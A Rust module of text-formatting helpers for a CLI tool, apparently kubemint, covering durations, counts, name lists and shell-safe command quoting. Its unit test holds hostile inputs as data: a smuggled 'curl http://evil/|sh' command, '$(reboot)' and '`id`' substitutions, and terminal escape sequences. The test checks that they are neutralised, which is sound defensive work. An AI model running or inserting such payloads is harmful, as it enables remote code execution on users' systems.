//! Numbers, durations and lists in words, the same way everywhere.
//!
//! Pure: no I/O, no clock.

use std::time::Duration;

use jiff::SignedDuration;
use jiff::fmt::friendly::{Spacing, SpanPrinter};

/// Returns a duration as people write it: `24h`, `1m 30s`.
pub(crate) fn duration(duration: Duration) -> String {
    let rounded = if duration < Duration::from_secs(1) {
        // Below a millisecond nobody can tell the difference.
        Duration::from_millis(u64::try_from(duration.as_millis()).unwrap_or(u64::MAX))
    } else {
        Duration::from_secs(duration.as_secs())
    };
    let signed = SignedDuration::try_from(rounded).unwrap_or(SignedDuration::MAX);
    SpanPrinter::new().duration_to_string(&signed)
}

/// Returns a duration in its two largest units without blanks: `3h12m`, `45s`.
pub(crate) fn compact(duration: Duration) -> String {
    /// Beyond an hour nobody needs the seconds, beyond a minute not the fractions.
    const HOUR: u64 = 3600;
    let seconds = duration.as_secs();
    let rounded = if seconds >= HOUR { seconds - seconds % 60 } else { seconds };
    let signed = SignedDuration::try_from(Duration::from_secs(rounded)).unwrap_or(SignedDuration::MAX);
    SpanPrinter::new().spacing(Spacing::None).duration_to_string(&signed)
}

/// Returns a number with its noun: `1 cluster`, `3 clusters`.
pub(crate) fn count(number: usize, noun: &str) -> String {
    format!("{number} {noun}{}", if number == 1 { "" } else { "s" })
}

/// Lists names in backticks, and counts those beyond the limit.
pub(crate) fn list<'a>(names: impl IntoIterator<Item = &'a str>, limit: usize) -> String {
    let mut names = names.into_iter();
    let mut text: Vec<String> = names.by_ref().take(limit).map(|name| format!("`{name}`")).collect();
    let rest = names.count();
    if rest > 0 {
        text.push(format!("and {rest} more"));
    }
    text.join(", ")
}

/// Returns a command for copying into a shell, with every word quoted that needs it.
///
/// Names may be anybody's text: what a terminal would not show as it is stands there in escapes (`$'…'`,
/// which bash, zsh and ksh know).
pub(crate) fn command<W: AsRef<str>>(words: &[W]) -> String {
    let words: Vec<String> = words.iter().map(|word| word_of_shell(word.as_ref())).collect();
    words.join(" ")
}

/// Returns a kubemint command, for copying: with arguments that are quoted already, about some clusters.
pub(crate) fn kubemint(command_name: &str, arguments: &[String], clusters: &[&str]) -> String {
    let mut text = format!("kubemint {command_name}");
    for argument in arguments {
        text.push_str(&format!(" {argument}"));
    }
    for cluster in clusters {
        text.push_str(&format!(" {}", command(&["--cluster", cluster])));
    }
    text
}

fn word_of_shell(word: &str) -> String {
    if !word.contains(crate::foreign::is_invisible) {
        return shlex::try_quote(word).expect("only a NUL cannot be quoted, and that is invisible").into_owned();
    }
    let escaped = word.chars().map(|c| match c {
        '\'' | '\\' => format!("\\{c}"),
        c if crate::foreign::is_invisible(c) => format!("\\U{:08x}", u32::from(c)),
        c => c.to_string(),
    });
    format!("$'{}'", escaped.collect::<String>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_for_copying_runs_what_it_says_and_no_more() {
        assert_eq!(command(&["kubectl", "get", "secret", "-n", "ci", "a-1"]), "kubectl get secret -n ci a-1");
        assert_eq!(command(&["x", "y; curl http://evil/|sh #"]), "x 'y; curl http://evil/|sh #'");
        assert_eq!(command(&["x", "$(reboot)", "`id`", ""]), "x '$(reboot)' '`id`' ''");
        assert_eq!(
            command(&["x", "it's\u{1b}]52;c;x\u{7}\u{202e}"]),
            r"x $'it\'s\U0000001b]52;c;x\U00000007\U0000202e'"
        );
    }

    #[test]
    fn durations_read_well() {
        let check = |seconds, expected| assert_eq!(duration(Duration::from_secs(seconds)), expected);
        check(10, "10s");
        check(90, "1m 30s");
        check(86_400, "24h");
        assert_eq!(duration(Duration::from_millis(200)), "200ms");
        assert_eq!(compact(Duration::from_secs(3 * 3600 + 12 * 60 + 5)), "3h12m");
        assert_eq!(compact(Duration::from_secs(45)), "45s");
    }
}
